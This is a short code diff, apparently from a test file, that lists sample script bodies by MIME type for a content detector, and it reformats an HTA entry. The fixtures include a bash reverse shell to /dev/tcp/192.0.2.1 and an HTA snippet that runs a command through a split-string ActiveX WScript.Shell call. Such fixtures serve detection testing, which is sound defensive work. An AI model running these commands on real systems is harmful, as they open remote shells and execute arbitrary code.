@@ -55,7 +55,10 @@ const SCRIPTS: readonly (readonly [type: string, text: string])[] = [
   ["text/x-shellscript", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"],
   ["text/asp", '<%@ LANGUAGE="JScript" %>\n<% var x = 1; %>'],
   ["text/x-jsp", "<%! int x = 1; %><%= x %>"],
-  ["application/hta", "<script language=JScript>new ActiveXObject('WScr' + 'ipt.Shell').Run('calc')</script>"],
+  [
+    "application/hta",
+    "<script language=JScript>new ActiveXObject('WScr' + 'ipt.Shell').Run('calc')</script>",
+  ],
   [
     "text/scriptlet",
     '<package><component id="x"><script language="JScript">var a=1;</script></component></package>',
